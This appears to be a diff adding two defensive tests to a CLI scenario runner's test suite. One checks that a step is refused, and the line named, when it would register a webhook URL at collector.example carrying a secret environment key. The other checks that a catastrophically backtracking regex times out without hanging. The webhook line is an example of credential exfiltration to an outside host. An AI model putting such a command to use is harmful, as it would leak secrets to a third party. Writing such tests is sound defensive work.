@@ -150,4 +150,42 @@ describe('opsctl scenario run', () => {
       rmSync(dir, {force: true, recursive: true})
     }
   })
+
+  it('refuses a step that would send a credential from the environment, naming the line, before anything is sent', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
+    const cli = cliFor(sandbox)
+    try {
+      const file = join(dir, 'leak.yaml')
+      writeFileSync(
+        file,
+        'steps:\n  - run: opsctl webhook list --json\n  - run: opsctl webhook register --url https://collector.example/${env:OPSCTL_CHECKOUT_SECRET_KEY} --name CHECKOUT_SUCCESS --json\n',
+      )
+      const hooks = (await cli.run(['webhook', 'list', '--json'])).stdout
+      const result = await cli.run(['scenario', 'run', file, '--reporter', 'json'])
+      expect(result.code).toBe(2)
+      expect(result.stderr).toMatch(/leak\.yaml:3:\d+: steps\.1: \$\{env:OPSCTL_CHECKOUT_SECRET_KEY\} reads a credential/)
+      expect(result.stdout).toBe('')
+      expect((await cli.run(['webhook', 'list', '--json'])).stdout).toBe(hooks)
+    } finally {
+      cli.cleanup()
+      rmSync(dir, {force: true, recursive: true})
+    }
+  })
+
+  it('fails a step whose pattern backtracks without end, after its time limit, instead of hanging', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'opsctl-scenario-'))
+    const cli = cliFor(sandbox)
+    try {
+      const file = join(dir, 'slow.yaml')
+      writeFileSync(file, 'steps:\n  - run: opsctl profile list --json\n    expect: {stdout: {matches: "^([\\\\s\\\\S]+)+QQQ$"}}\n  - run: opsctl profile list\n')
+      const result = await cli.run(['scenario', 'run', file, '--reporter', 'json'])
+      expect(result.code, result.stderr).toBe(1)
+      const [step, skipped] = JSON.parse(result.stdout).results
+      expect(step.message).toMatch(/^\/\^\(\[\\s\\S\]\+\)\+QQQ\$\/ took longer than 1 s to match/)
+      expect(skipped.outcome).toBe('skipped')
+    } finally {
+      cli.cleanup()
+      rmSync(dir, {force: true, recursive: true})
+    }
+  })
 })
